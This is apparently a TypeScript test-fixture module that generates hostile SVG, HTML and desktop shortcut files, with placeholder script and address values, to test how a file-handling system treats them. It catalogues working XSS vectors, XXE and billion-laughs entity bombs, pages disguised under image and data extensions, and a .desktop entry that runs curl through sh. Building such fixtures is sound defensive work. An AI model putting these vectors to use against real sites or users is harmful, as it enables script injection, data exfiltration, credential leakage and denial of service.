import { hostile } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`

/** Drawings that hold scripts, pages, and addresses elsewhere. */
export function hostileDrawings({ script, address }: Payload): readonly HostileFile[] {
  const laughs = Array.from(
    { length: 12 },
    (_, i) => `<g id="l${i + 1}">${`<use href="#l${i}"/>`.repeat(10)}</g>`,
  ).join('')
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')
  const drawings: readonly (readonly [string, string])[] = [
    ['script', svg(`<script>${script}</script>`)],
    ['script cdata', svg(`<script><![CDATA[${script}]]></script>`)],
    ['script elsewhere', svg(`<script href="${address}/a.js"/><script xlink:href="${address}/b.js"/>`)],
    ['onload', svg('', `onload="${script}"`)],
    ['onbegin', svg(`<animate onbegin="${script}" attributeName="x" dur="1s"/>`)],
    [
      'foreign',
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></body></foreignObject>`,
      ),
    ],
    [
      'foreign frame',
      svg(
        `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${address}/frame"/></foreignObject>`,
      ),
    ],
    ['image', svg(`<image href="${address}/image.png" width="9" height="9"/>`)],
    ['use', svg(`<use href="${address}/use.svg#a"/>`)],
    [
      'fe image',
      svg(`<filter id="f"><feImage href="${address}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
    ],
    ['import', svg(`<style>@import url("${address}/import.css");*{background:url(${address}/bg)}</style>`)],
    ['stylesheet', `<?xml-stylesheet href="${address}/style.css"?>${svg('')}`],
    ['link', svg(`<a xlink:href="javascript:${script}"><rect width="999" height="999"/></a>`)],
    [
      'animated link',
      svg(`<a><animate attributeName="href" values="javascript:${script}"/><rect width="9" height="9"/></a>`),
    ],
    ['handler set', svg(`<set attributeName="onmouseover" to="${script}"/><rect width="9" height="9"/>`)],
    ['entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${address}/entity">]>${svg('<text>&x;</text>')}`],
    ['entities', `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]>${svg('<text>&e9;</text>')}`],
    ['uses', svg(`<defs><rect id="l0" width="9" height="9"/>${laughs}</defs><use href="#l12"/>`)],
    [
      'video',
      svg(
        `<foreignObject><video xmlns="http://www.w3.org/1999/xhtml" src="${address}/v" onerror="${script}" autoplay=""/></foreignObject>`,
      ),
    ],
    ['event', svg(`<handler xmlns="http://www.w3.org/2001/xml-events" type="load">${script}</handler>`)],
  ]
  return [
    ...drawings.map(([name, content]) => hostile(`drawing ${name}.svg`, content, 'text', 'image/svg+xml')),
    hostile('drawing as a photo.png', svg(`<script>${script}</script>`), 'text', 'image/png'),
    hostile('drawing as a page.xhtml', svg('', `onload="${script}"`), 'text', 'application/xhtml+xml'),
  ]
}

/** Pages, under names and types that say something else. */
export function hostilePages({ script, address }: Payload): readonly HostileFile[] {
  const pages: readonly (readonly [string, string])[] = [
    ['script.html', `<!doctype html><script>${script}</script>`],
    ['old.htm', `<img src=x onerror="${script}">`],
    ['xhtml.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`],
    ['photo.jpg', `<html><body onload="${script}">`],
    ['photo.png', `<svg/onload="${script}">`],
    ['film.mp4', `<video src="${address}/v" onerror="${script}" autoplay>`],
    ['document.pdf', `<embed src="${address}/e.pdf"><script>${script}</script>`],
    ['data.json', `{"a":"</script><script>${script}</script>"}`],
    ['data.xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`],
    ['transform.xml', `<?xml-stylesheet type="text/xsl" href="${address}/x.xsl"?><a/>`],
    ['mail.mht', `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>${script}</script>`],
    ['program.hta', `<hta:application/><script>${script}</script>`],
    ['no ending', `<script>${script}</script>`],
    ['refresh.html', `<meta http-equiv="refresh" content="0;url=${address}/refresh">`],
    ['base.html', `<base href="${address}/"><img src="a.png"><link rel="stylesheet" href="a.css">`],
    [
      'frames.html',
      `<iframe srcdoc="<script>${script}</script>"></iframe><iframe src="javascript:${script}"></iframe>`,
    ],
    ['objects.html', `<object data="${address}/o"></object><embed src="${address}/e">`],
    ['focus.html', `<input autofocus onfocus="${script}"><details open ontoggle="${script}">`],
    [
      'form.html',
      `<form action="${address}/form"><button autofocus>Go</button></form><script>document.forms[0].submit()</script>`,
    ],
    ['style.html', `<style>@import "${address}/i.css";body{background:url(${address}/b)}</style>`],
    ['prefetch.html', `<link rel="prefetch" href="${address}/p"><link rel="dns-prefetch" href="//elsewhere.example">`],
    ['worker.js', script],
    ['module.mjs', `import '${address}/m.js';${script}`],
    ['wallpaper.txt', `<script>${script}</script>`],
  ]
  return [
    ...pages.map(([name, content]) => hostile(`page ${name}`, content, 'text')),
    hostile('page utf7.html', `+ADw-script+AD4-${script}+ADw-/script+AD4-`, 'text', 'text/html; charset=utf-7'),
    hostile('page utf16.html', Buffer.from(`\ufeff<script>${script}</script>`, 'utf16le'), 'refused'),
    hostile('page after nulls.html', `\0\0\0<script>${script}</script>`, 'refused'),
    hostile('page latin.html', Buffer.from(`<script>/*\xe9\xff*/${script}</script>`, 'latin1'), 'refused'),
  ]
}

/** Files that a desktop would act on. */
export function hostileShortcuts({ address }: Payload): readonly HostileFile[] {
  return [
    hostile('shortcut.url', `[InternetShortcut]\r\nURL=${address}/url\r\n`, 'text'),
    hostile('shortcut.desktop', `[Desktop Entry]\nType=Application\nExec=sh -c 'curl ${address}'\n`, 'text'),
    hostile('shortcut.webloc', `<plist><dict><key>URL</key><string>${address}/webloc</string></dict></plist>`, 'text'),
    hostile('shortcut.scf', `[Shell]\r\nIconFile=\\\\127.0.0.1\\share\\icon.ico\r\n`, 'text'),
    hostile('shortcut.library-ms', `<libraryDescription><url>${address}</url></libraryDescription>`, 'text'),
    hostile('shortcut.lnk', Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), 'refused'),
  ]
}
